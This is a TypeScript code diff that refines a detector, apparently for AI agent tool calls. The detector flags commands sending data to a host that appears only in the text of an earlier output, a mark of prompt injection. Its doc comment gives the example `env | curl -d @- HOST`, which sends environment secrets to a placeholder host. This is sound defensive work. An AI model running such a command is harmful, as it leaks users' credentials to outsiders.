@@ -103,9 +103,13 @@ function writtenBy(readable: ReadableCall, scene: Scene & KnownTools): readonly 
 
 /** A command that does more than read, and names a host that only the running text of an output holds: `env | curl -d @- HOST`. */
 function sentElsewhere(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
-  if (!soughtValues(readable.call).some(({ text }) => isCommand(text) && !onlyFetches(text))) return []
+  const commands = soughtValues(readable.call).filter(({ text }) => isCommand(text) && !onlyFetches(text))
+  if (commands.length === 0) return []
   const values = valuesOf(readable, scene)
-  const host = values.find((value) => targetType(value.text) === 'web' && isOnlyRunning(value))
+  // A host in an argument of its own is no part of the command: `url` beside the `prompt` of a tool that fetches pages.
+  const isInCommand = ({ argument, isWhole }: CallValue) =>
+    !isWhole && commands.some((command) => command.argument === argument)
+  const host = values.find((value) => isInCommand(value) && targetType(value.text) === 'web' && isOnlyRunning(value))
   const [place] = host?.foreign() ?? []
   if (!host || !place) return []
   return [{ ...readable, output: place.output, at: place.at, shown: host.text, values, asked: null }]
